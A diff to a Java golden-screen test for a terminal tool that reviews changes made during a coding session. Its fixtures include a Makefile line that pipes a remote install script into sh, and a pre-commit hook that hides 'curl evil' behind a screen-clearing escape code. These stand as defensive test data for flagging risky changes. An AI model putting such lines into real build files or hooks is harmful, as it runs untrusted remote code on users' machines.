@@ -3,6 +3,11 @@ package dev.hqt.tui;
 import dev.hqt.doctor.CheckReport;
 import dev.hqt.doctor.CheckResult;
 import dev.hqt.doctor.DoctorReport;
+import dev.hqt.review.Change;
+import dev.hqt.review.DiffLine;
+import dev.hqt.review.DiffLine.Sign;
+import dev.hqt.review.Review;
+import dev.hqt.review.Severity;
 import dev.hqt.sandbox.SandboxAvailability;
 import dev.hqt.tui.event.Event;
 import dev.hqt.tui.text.Size;
@@ -33,6 +38,42 @@ class GoldenScreenTest {
             new CheckReport(
                     "Codex", false, new CheckResult.Warning("not on PATH (optional)", "npm install -g @openai/codex")),
             new CheckReport("database", true, new CheckResult.Ok("~/.local/share/hqt/hqt.db")))));
+
+    static final Review REVIEW = new Review(
+            Views.NOW,
+            List.of(
+                    change(
+                            "Makefile",
+                            Change.Kind.CHANGED,
+                            Severity.RUNS_ON_USE,
+                            "make runs what it says.",
+                            new DiffLine(Sign.PLACE, "@ -1,2 +1,2 @@"),
+                            new DiffLine(Sign.CONTEXT, "all:"),
+                            new DiffLine(Sign.REMOVED, "\techo all"),
+                            new DiffLine(Sign.ADDED, "\tcurl -s https://example.org/install.sh | sh && echo all")),
+                    change(
+                            ".git/hooks/pre-commit",
+                            Change.Kind.ADDED,
+                            Severity.RUNS_UNASKED,
+                            "git runs what lies here at commits, checkouts, merges and pushes.",
+                            new DiffLine(Sign.PLACE, "@ -0,0 +1,2 @@"),
+                            new DiffLine(Sign.ADDED, "#!/bin/sh"),
+                            new DiffLine(Sign.ADDED, "\u001b[2Jcurl evil")),
+                    change(
+                            "node_modules/",
+                            Change.Kind.MANY,
+                            Severity.RUNS_ON_USE,
+                            "412 executables in it.",
+                            new DiffLine(Sign.NOTE, "such as node_modules/.bin/acorn"))),
+            List.of("3 files or directories could not be read."));
+
+    private static Change change(String path, Change.Kind kind, Severity severity, String reason, DiffLine... diff) {
+        return new Change(path, kind, severity, reason, List.of(diff));
+    }
+
+    private static Stage reviewing(Size size) {
+        return select(Stage.withAllStates(size), 5).press("v");
+    }
 
     /** The screens by name, each as it comes to be. */
     static Map<String, Function<Size, Stage>> screens() {
@@ -79,6 +120,20 @@ class GoldenScreenTest {
         screens.put("confirm", size -> Stage.withAllStates(size).press("x"));
         screens.put("help", size -> Stage.withAllStates(size).press("?"));
         screens.put("doctor", size -> Stage.withAllStates(size).press("d").on(REPORT));
+        screens.put("review", size -> reviewing(size).on(new Event.SessionReviewed(5, REVIEW)));
+        screens.put(
+                "review-clean",
+                size -> reviewing(size).on(new Event.SessionReviewed(5, new Review(Views.NOW, List.of(), List.of()))));
+        screens.put(
+                "review-failed",
+                size -> reviewing(size)
+                        .on(
+                                new Event.SessionNotReviewed(
+                                        5,
+                                        "No snapshot of the project was kept when the session started, so it is not known what has changed.")));
+        screens.put(
+                "review-accept",
+                size -> reviewing(size).on(new Event.SessionReviewed(5, REVIEW)).press("a"));
         screens.put("toasts", GoldenScreenTest::toasts);
         return screens;
     }
